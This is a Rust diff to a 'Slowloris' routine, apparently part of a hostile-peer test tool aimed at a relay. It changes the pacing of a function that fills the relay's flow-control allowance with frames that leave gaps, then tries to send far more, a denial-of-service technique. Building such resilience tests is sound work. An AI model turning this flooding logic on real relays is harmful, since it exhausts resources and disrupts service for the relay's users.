@@ -14,7 +14,7 @@ use crate::ground::{Ground, HOSTILE, READERS, office, transport_seed};
 use crate::hacked::{self, Hacked};
 use crate::letters::Pen;
 use crate::line::Line;
-use crate::pace::pause;
+use crate::pace::Pace;
 use crate::place::OURS;
 use crate::relay::Target;
 use crate::wild;
@@ -24,8 +24,10 @@ const STREAMS: u64 = 1000;
 /// What the relay allows a session to have on its way; it is filled, and later more is tried.
 const ALLOWED: u64 = 2 * 1024 * 1024 - 64 * 1024;
 const MORE: u64 = 120 * 1024 * 1024;
-/// Packets in a millisecond.
-const PACE: u64 = 40;
+/// For how long what is allowed is held before more is tried.
+const HELD: Duration = Duration::from_millis(1500);
+/// Packets in a second.
+const PACE: u64 = 40_000;
 
 #[derive(Debug)]
 pub(crate) struct Slowloris;
@@ -116,10 +118,13 @@ async fn without_an_end(ground: &Ground, target: &Target) -> Result<((Line, Vec<
 /// Fills what the relay allows with pieces so that nothing of it can be read; then tries more.
 fn with_holes(mut hacked: Hacked, bytes: usize, apart: u64, end: &CancellationToken) -> u64 {
     let piece = vec![7; bytes];
-    let (mut sent, begun) = (0_u64, Instant::now());
+    let (mut pace, mut sent) = (Pace::of(PACE), 0_u64);
     let (mut offsets, mut turn) = (vec![1_u64; 16], 0_usize);
     while !end.is_cancelled() && sent < MORE {
-        for _ in 0..PACE {
+        for _ in pace.next() {
+            if sent >= ALLOWED && pace.ran() < HELD {
+                break;
+            }
             let mut frames = Vec::new();
             while frames.len() + bytes + 20 < 1180 {
                 let stream = turn % offsets.len();
@@ -129,11 +134,7 @@ fn with_holes(mut hacked: Hacked, bytes: usize, apart: u64, end: &CancellationTo
                 turn += 1;
             }
             hacked.send(&frames);
-            if sent >= ALLOWED && begun.elapsed() < Duration::from_millis(1500) {
-                pause(Duration::from_millis(1500).saturating_sub(begun.elapsed()));
-            }
         }
-        pause(Duration::from_millis(1));
     }
     sent
 }
